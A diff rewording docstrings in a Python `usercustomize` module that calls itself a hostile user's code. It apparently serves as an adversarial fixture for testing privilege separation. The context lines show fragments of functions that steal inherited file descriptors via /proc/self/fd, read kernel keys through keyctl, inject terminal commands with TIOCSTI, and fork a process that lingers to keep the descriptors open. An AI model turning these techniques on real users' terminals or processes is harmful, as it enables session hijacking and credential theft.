@@ -1,7 +1,7 @@
 """Code of a hostile user, run by Python when the user's process starts: the user's `usercustomize`.
 
-Takes what it can get of whoever started it, and writes a report into the user's home folder.
-Knows only the standard library.
+Takes what it can get from the process that started it, and writes a report into the user's home
+folder.  Knows only the standard library.
 """
 
 import contextlib
@@ -54,7 +54,7 @@ def report(found: dict[str, Any]) -> None:
 
 
 def steal(keyctl: int) -> dict[str, Any]:
-    """Return what could be had; `keyctl` is the number of that system call."""
+    """Return everything that could be stolen; `keyctl` is the number of that system call."""
     descriptors = {}
     for name in os.listdir("/proc/self/fd"):
         with contextlib.suppress(OSError):  # the one of the listing
@@ -90,7 +90,7 @@ def steal(keyctl: int) -> dict[str, Any]:
 
 
 def attempt(action: Callable[[], Any]) -> Any:
-    """Return the result, or None where it is refused."""
+    """Return the result, or None if the call is refused."""
     try:
         return action()
     except OSError:
@@ -98,7 +98,7 @@ def attempt(action: Callable[[], Any]) -> Any:
 
 
 def inject(descriptor: int) -> bool:
-    """Type a command at the terminal, as TIOCSTI does where the kernel still has it."""
+    """Type a command at the terminal with TIOCSTI, if the kernel still supports it."""
     try:
         for char in INJECTED:
             fcntl.ioctl(descriptor, termios.TIOCSTI, char.encode())
@@ -132,7 +132,7 @@ def key(keyctl: int) -> str:
 
 
 def stay_behind() -> int:
-    """Leave a process that keeps all descriptors open for ever; return its number."""
+    """Leave a process that keeps all descriptors open for ever; return its pid."""
     reading, writing = os.pipe()
     if os.fork() == 0:
         os.setsid()
